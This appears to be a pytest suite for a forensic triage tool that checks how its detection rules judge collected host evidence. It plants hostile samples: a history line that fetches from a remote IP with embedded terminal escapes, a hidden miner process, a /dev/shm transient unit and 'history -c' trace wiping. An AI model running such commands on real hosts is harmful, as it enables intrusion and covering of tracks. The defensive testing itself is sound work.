"""What is made of a collection: joins that cannot be fooled by a broken tool, and hostile data that ends nothing."""

from __future__ import annotations

import doctest
import hashlib
import itertools
import json
import os
import subprocess
import time
from dataclasses import replace
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from stopgap.orchestrator import technique
from stopgap.orchestrator.evidence.manifest import FINDINGS, MANIFEST, ToolkitUsed
from stopgap.orchestrator.evidence.reader import open_collection
from stopgap.orchestrator.findings import Findings, earlier, judge, shipped_rules
from stopgap.orchestrator.findings.keeping import keep_findings
from stopgap.orchestrator.findings.table import tables
from stopgap.orchestrator.findings.tables.body import entries
from stopgap.orchestrator.journal import Journal
from stopgap.orchestrator.journal.records import EvidenceKept, RunFinished, RunStarted

from .bench import Bench
from .collection import begin_custody, collected

RULES = shipped_rules()
HIDDEN: dict[str, Any] = {
    "processes": "/proc/7/stat:7 (miner) S 1 7 7 0 -1 4194560 0\n",
    "process-links": "",
    "process-list": "$ ps\n  PID COMMAND\n    1 init\n",
    "hidden-processes": "looked at 1 to 9 of 9, found 2 processes, listed 1 7\n",
}


def rewrite(folder: Path, artifact: str, **fields: Any) -> None:
    """Change an item in a collection's manifest."""
    manifest = json.loads((folder / MANIFEST).read_text())
    for entry in manifest["items"]:
        if entry["id"] == artifact:
            entry.update(fields)
    (folder / MANIFEST).write_text(json.dumps(manifest))


def test_a_ps_that_failed_hides_nothing_and_the_rule_says_that_it_could_not_look(tmp_path: Path) -> None:
    collected(tmp_path, HIDDEN)
    assert "process-hidden-from-ps" in {finding.id for finding in judge(open_collection(tmp_path), RULES).findings}
    rewrite(tmp_path, "process-list", exit_status=127)
    judged = judge(open_collection(tmp_path), RULES)
    assert "process-hidden-from-ps" not in {finding.id for finding in judged.findings}
    reasons = {missed.id: missed.reason for missed in judged.not_looked}
    assert "not whole" in reasons["process-hidden-from-ps"]


@pytest.mark.parametrize(
    ("said", "reason"),
    [
        ({"exit_status": 127, "stderr": "not installed: perl or python3\n"}, "not installed: perl or python3"),
        ({"exit_status": 2, "stderr": "no socket\n"}, "no socket"),
        ({"exit_status": 0, "stderr": "not installed: rpm\n"}, "not installed: rpm"),
    ],
)
def test_what_could_not_be_looked_at_is_no_discrepancy_that_was_not_seen(
    tmp_path: Path, said: dict[str, Any], reason: str
) -> None:
    collected(tmp_path, {}, empty=("hidden-ports",))
    rewrite(tmp_path, "hidden-ports", **said)
    judged = judge(open_collection(tmp_path), RULES)
    assert "port-taken-unlisted" not in {each.id for each in judged.no_discrepancy_seen}
    reasons = {missed.id: missed.reason for missed in judged.not_looked}
    assert reasons["port-taken-unlisted"] == f"hidden-ports could not be looked at: {reason}"


def test_where_nothing_was_found_it_says_what_was_compared(tmp_path: Path) -> None:
    judged = judge(collected(tmp_path, HIDDEN | {"process-list": "  PID COMMAND\n    1 init\n    7 miner\n"}), RULES)
    compared = {each.id: each.compared for each in judged.no_discrepancy_seen}
    assert compared["process-hidden-from-ps"] == "1 rows of processes against ps against listed"


@pytest.mark.parametrize("listed", ["", "\x1f\x8b\x08 what a host sends instead\n"])
def test_a_list_without_any_process_is_not_read_and_denies_nothing(tmp_path: Path, listed: str) -> None:
    judged = judge(collected(tmp_path, {"processes": listed, "process-links": ""}), RULES)
    reasons = {unread.table: unread.reason for unread in judged.unread}
    assert reasons["processes"] == "processes: it lists no process, and no host is without one"
    assert "process-deleted-program" in {missed.id for missed in judged.not_looked}
    assert "process-deleted-program" not in {each.id for each in judged.no_discrepancy_seen}


def test_what_volatile_alone_collects_of_units_is_judged_and_told_where_it_cannot_be_read(tmp_path: Path) -> None:
    unit = {"/run/systemd/transient/run-1.service": "[Service]\nExecStart=/dev/shm/x\n"}
    judged = judge(collected(tmp_path / "sound", {"transient-units": unit}), RULES)
    assert [(each.id, each.severity) for each in judged.findings] == [("mechanism-transient", "critical")]
    judged = judge(collected(tmp_path / "torn", {"transient-units": b"\xff" * 5000}), RULES)
    assert [unread.table for unread in judged.unread] == ["transient-mechanisms"]


def test_a_rule_whose_items_another_profile_collects_is_not_mentioned(tmp_path: Path) -> None:
    judged = judge(collected(tmp_path, {"histories": {"/root/.bash_history": "ls\n"}}), RULES)
    mentioned = {each.id for each in (*judged.no_discrepancy_seen, *judged.not_looked)}
    assert "history-fetched" in mentioned
    assert "process-hidden-from-ps" not in mentioned


def test_the_same_evidence_gives_the_same_bytes(tmp_path: Path) -> None:
    one = judge(collected(tmp_path, HIDDEN), RULES).canonical()
    assert judge(open_collection(tmp_path), RULES).canonical() == one


def test_what_a_finding_shows_of_a_host_can_do_nothing_to_a_terminal(tmp_path: Path) -> None:
    planted = {"histories": {"/root/.bash_history": "wget http://198.51.100.2/\x1b]0;x\x07\u202e\n"}}
    (finding,) = [f for f in judge(collected(tmp_path, planted), RULES).findings if f.id == "history-fetched"]
    assert finding.seen[0].what.isprintable()
    assert (finding.seen[0].member, finding.seen[0].line) == ("/root/.bash_history", 1)


def test_many_sightings_are_counted_and_a_few_shown(tmp_path: Path) -> None:
    planted = {"histories": {"/root/.bash_history": "history -c\n" * 2500}}
    (finding,) = [f for f in judge(collected(tmp_path, planted), RULES).findings if f.id == "history-traces-removed"]
    assert finding.count == 2500
    assert len(finding.seen) == 2000


def test_lines_made_to_be_slow_to_match_are_not(tmp_path: Path) -> None:
    hostile = "/usr/" * 12000 + "\n"
    planted = {"histories": {"/root/.bash_history": hostile * 400}}
    started = time.monotonic()
    judge(collected(tmp_path, planted), RULES, budget=1.0)
    assert time.monotonic() - started < 10


def test_time_is_bounded_and_what_was_not_looked_at_is_said(tmp_path: Path) -> None:
    planted = {"histories": {"/root/.bash_history": "history -c\n" * 100}}
    ticks = itertools.count()
    judged = judge(collected(tmp_path, planted), RULES, budget=50, clock=lambda: float(next(ticks)))
    assert [unread.table for unread in judged.unread] == ["edited", "history-acts"]
    of = {rule.id: rule.table for rule in RULES}
    assert {of[missed.id] for missed in judged.not_looked if "time for it was over" in missed.reason} == {
        "edited",
        "history-acts",
    }
    assert {of[compared.id] for compared in judged.no_discrepancy_seen} == {"histories"}


def test_a_tool_with_holes_is_hashed_as_the_file_that_it_is(tmp_path: Path) -> None:
    tool = tmp_path / "usr/bin/ps"
    tool.parent.mkdir(parents=True)
    with tool.open("wb") as stream:
        stream.write(b"\x7fELF")
        stream.seek(1 << 20)
        stream.write(b"end")
    content = subprocess.run(
        ["tar", "-C", tmp_path, "-cSf", "-", "./usr/bin/ps"], capture_output=True, check=True
    ).stdout
    assert len(content) < 1 << 19, "the archive has to be sparse"
    digest = subprocess.run(["md5sum", tool], capture_output=True, text=True, check=True).stdout.split()[0]
    for written, altered in ((digest, []), ("0" * 32, ["tool-altered"])):
        folder = tmp_path / written
        collection = collected(folder, {"system-tools": content, "package-digests": f"{written}  bin/ps\n"})
        assert [f.id for f in judge(collection, RULES).findings if f.id == "tool-altered"] == altered


def test_a_fault_in_the_rules_costs_no_evidence(tmp_path: Path) -> None:
    collected(tmp_path / "c", HIDDEN)
    kept = EvidenceKept(
        step="s", target="w", host="w", profile="p", folder="c", items=1, size=1, manifest_sha256="0" * 64
    )

    def broken() -> list[Any]:
        raise RuntimeError("x\x1b")

    made = keep_findings(tmp_path, kept, broken)
    assert made.sha256 is None
    assert made.trouble == "an error of its own: RuntimeError: x\\x1b"


def test_a_death_while_findings_are_written_leaves_nothing_among_the_evidence(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    class Died(BaseException):
        pass

    def die(_: int) -> None:
        raise Died

    collected(tmp_path / "evidence", HIDDEN)
    kept = EvidenceKept(
        step="s", target="w", host="w", profile="p", folder="evidence", items=1, size=1, manifest_sha256="0" * 64
    )
    before = sorted(path.name for path in (tmp_path / "evidence").iterdir())
    monkeypatch.setattr(os, "fsync", die)
    with pytest.raises(Died):
        keep_findings(tmp_path, kept, lambda: RULES)
    assert sorted(path.name for path in (tmp_path / "evidence").iterdir()) == before


@pytest.fixture
def gathered(bench: Bench) -> Bench:
    """A run of one collection, as a run records it."""
    started = RunStarted(
        version="1", runbook_name="r", runbook_path="r", runbook_text="", inventory_path="i", inventory_text="",
        hosts=(), targets=("web",), params={}, operator="o",
    )  # fmt: skip
    with Journal.open(bench.top / "home") as journal:
        run = journal.begin(started)
        folder = journal.run_folder(run)
        look = HIDDEN | {"logs": {"/var/log/auth.log": "Nov 23 02:14:49 web x\n"}}
        begin_custody(collected(folder / "evidence/web/look", look))
        manifest = (folder / "evidence/web/look" / MANIFEST).read_bytes()
        kept = EvidenceKept(
            step="look", target="web", host="web", profile="triage", folder="evidence/web/look", items=5, size=1,
            manifest_sha256=hashlib.sha256(manifest).hexdigest(),
        )  # fmt: skip
        journal.append(run, kept, keep_findings(folder, kept, lambda: RULES), RunFinished(outcome="ok", exit_code=0))
        journal.export(run)
    return bench


def findings_of(bench: Bench) -> Path:
    (path,) = (bench.top / "home").glob(f"runs/*/evidence/*/*/{FINDINGS}")
    return path


def test_a_run_keeps_its_findings_and_verify_knows_them(gathered: Bench) -> None:
    path = findings_of(gathered)
    judged = json.loads(path.read_text())
    assert judged["format"] == "stopgap-findings"
    assert path.stat().st_mode & 0o777 == 0o600
    assert gathered.stopgap("verify", "last")[0] == 0
    shown = gathered.stopgap("show", "last")[1]
    assert "Findings on web: 1 critical" in shown
    assert "process 7 miner" in shown
    path.write_bytes(path.read_bytes().replace(b"triage", b"TRIAGE"))
    code, out, _ = gathered.stopgap("verify", "last")
    assert code == 1
    assert "findings.json: changed" in out
    assert gathered.stopgap("evidence", "findings", "last")[0] == 0
    assert gathered.stopgap("verify", "last")[0] == 0


def test_techniques_and_what_to_do_are_told_wherever_a_finding_is(gathered: Bench) -> None:
    def told(findings: list[dict[str, Any]]) -> dict[str, list[str]]:
        return {finding["id"]: finding["tags"] for finding in findings}

    rule = next(rule for rule in RULES if rule.id == "process-hidden-from-ps")
    judged = json.loads(findings_of(gathered).read_text())
    (kept,) = (finding for finding in judged["findings"] if finding["id"] == rule.id)
    assert kept["tags"] == list(rule.tags) == ["attack.t1014"]
    assert (kept["confidence"], kept["response"]) == (rule.confidence, rule.response)
    assert kept["falsepositives"] == list(rule.falsepositives)
    assert told(json.loads(gathered.stopgap("evidence", "findings", "last", "--json")[1])["findings"]) == told(
        judged["findings"]
    )
    shown = gathered.stopgap("evidence", "findings", "last")[1]
    assert f"response         {rule.response}" in shown
    assert "ATT&CK           T1014" in shown
    reports = {form: gathered.stopgap("report", "last", "--format", form)[1] for form in ("json", "md", "html")}
    assert told(json.loads(reports["json"])["findings"]) == told(judged["findings"])
    assert "ATT&CK T1014" in reports["md"]
    assert "ATT&amp;CK T1014" in reports["html"]


def test_findings_of_version_1_are_read_under_the_names_of_today(gathered: Bench) -> None:
    today = json.loads(findings_of(gathered).read_text())
    names = {"confidence": "sure", "falsepositives": "otherwise", "response": "next"}
    before = [
        {names.get(key, key): value[0] if key == "falsepositives" else value for key, value in finding.items()}
        for finding in today["findings"]
    ]
    for finding in before:
        del finding["tags"], finding["references"]
    read = Findings.model_validate_json(json.dumps(today | {"version": 1, "findings": before}))
    assert read == Findings.model_validate_json(json.dumps(today)).model_copy(
        update={"findings": tuple(f.model_copy(update={"tags": (), "references": ()}) for f in read.findings)}
    )
    assert read.findings[0].falsepositives == tuple(today["findings"][0]["falsepositives"])


@pytest.mark.parametrize("module", [technique, earlier])
def test_the_examples_in_docstrings_hold(module: ModuleType) -> None:
    found = doctest.testmod(module)
    assert found.attempted
    assert not found.failed


def test_evidence_is_read_without_unpacking_it(gathered: Bench) -> None:
    code, out, _ = gathered.stopgap("evidence", "ls", "last")
    assert code == 0
    assert "000-processes.txt" in out
    assert "/var/log/auth.log" in gathered.stopgap("evidence", "ls", "last", "logs")[1]
    assert "(miner)" in gathered.stopgap("evidence", "cat", "last", "processes")[1]
    shown = gathered.stopgap("evidence", "cat", "last", "logs", "/var/log/auth.log")[1]
    assert shown == "Nov 23 02:14:49 web x\n"
    assert "logs.tar:/var/log/auth.log:1: Nov 23" in gathered.stopgap("evidence", "grep", "last", "02:1[4]")[1]
    assert gathered.stopgap("evidence", "grep", "last", "no such text")[0] == 1
    assert gathered.stopgap("evidence", "cat", "last", "nothing")[0] == 1
    assert gathered.stopgap("evidence", "ls", str(findings_of(gathered).parent))[1] == out
    lines = gathered.stopgap("evidence", "timeline", "last")[1].splitlines()
    assert any(json.loads(line)["ours"] for line in lines)
    _, some, _ = gathered.stopgap("evidence", "timeline", "last", "--until", "2026-11-23T02:14:49Z")
    assert [json.loads(line)["message"] for line in some.splitlines()] == ["Nov 23 02:14:49 web x"]
    assert gathered.stopgap("evidence", "timeline", "last", "--since", "2026-11-23T02:14:50")[1] != some
    assert gathered.stopgap("evidence", "timeline", "last", "--since", "yesterday")[0] == 2


def test_the_collections_own_toolkit_is_no_finding_and_another_ones_is(tmp_path: Path) -> None:
    token = "0123456789abcdef"
    where = "/dev/shm/.stopgap-{}/busybox"
    lines = "0|/proc/7/exe -> {}|1|lrwxrwxrwx|0|0|0|1.0|1.0|1.0|0.0\n"
    artifacts = {
        "process-links": lines.format(where.format(token))
        + lines.format(where.format("f" * 16)).replace("/7/", "/8/"),
        "process-code": "".join(
            f"/proc/{pid}/maps:00400000-00600000 r-xp 00000000 00:1a 5 {where.format(mark)}\n"
            for pid, mark in ((7, token), (8, "f" * 16))
        ),
    }
    plain = collected(tmp_path / "volatile", artifacts)
    used = ToolkitUsed(path="/bin/busybox", sha256="0" * 64, bytes=1, token=token)
    ours = replace(plain, manifest=plain.manifest.model_copy(update={"toolkit": used}))
    assert [entry.target for entry in entries(plain, "process-links")] == [where.format(t) for t in (token, "f" * 16)]
    assert [entry.target for entry in entries(ours, "process-links")] == [where.format("f" * 16)]
    assert len(list(tables()["mappings"].read(plain))) == 2
    assert [row.fields["pid"] for row in tables()["mappings"].read(ours)] == [8]


def test_a_login_that_is_missing_has_its_time(tmp_path: Path) -> None:
    records = {
        "/var/log/lastlog": {"last": [1795390000]},
        "/var/log/wtmp": {"sessions": [["ann", 1795300000, 1795301000]]},
    }
    passwd = "root:x:0:0::/root:/bin/bash\nann:x:1001:1001::/home/ann:/bin/bash\n"
    body = "0|/home/ann|5|drwxr-xr-x|1001|1001|4096|1.0|1.0|1.0|0.0\n"
    made = collected(tmp_path, {"logs": records, "configuration": {"/etc/passwd": passwd}, "bodyfile": body})
    seen = {finding.id: finding.seen[0].at for finding in judge(made, RULES).findings}
    assert seen["login-unrecorded"] == "2026-11-22T23:26:40Z"
    assert seen["history-missing"] == "2026-11-21T22:26:40Z"


def test_a_login_is_not_missed_in_records_that_did_not_come_whole(tmp_path: Path) -> None:
    logs = {"/var/log/lastlog": {"last": [1795390000]}, "/var/log/wtmp": ""}
    collected(tmp_path, {"logs": logs, "configuration": {"/etc/passwd": "root:x:0:0::/root:/bin/bash\n"}})
    assert "login-unrecorded" in {finding.id for finding in judge(open_collection(tmp_path), RULES).findings}
    rewrite(tmp_path, "logs", truncated=True, truncated_because="its cap")
    judged = judge(open_collection(tmp_path), RULES)
    assert "login-unrecorded" not in {finding.id for finding in judged.findings}
    assert "cut off" in {missed.id: missed.reason for missed in judged.not_looked}["login-unrecorded"]
